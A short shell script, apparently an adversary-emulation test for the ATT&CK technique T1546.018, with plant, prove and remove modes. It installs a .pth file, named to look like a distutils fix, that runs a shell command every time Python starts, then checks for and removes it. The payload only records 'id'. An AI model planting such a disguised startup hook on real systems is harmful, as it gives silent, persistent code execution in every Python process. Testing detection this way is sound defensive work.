#!/bin/sh
# T1546.018 (quiet): A .pth file runs with every start of Python
M=/var/tmp/luytre-foothold N=30-python-pth
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
plant() {
  w /usr/lib/python3/dist-packages/distutils-precedence-fix.pth <<'E'
import os; os.environ.get("LT_OFF") or os.system("id > /var/tmp/luytre-foothold/30-python-pth")
E
}
prove() {
  rm -f "$M/$N"
  python3 -c 1
  seen
}
remove() {
  rm -f /usr/lib/python3/dist-packages/distutils-precedence-fix.pth
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
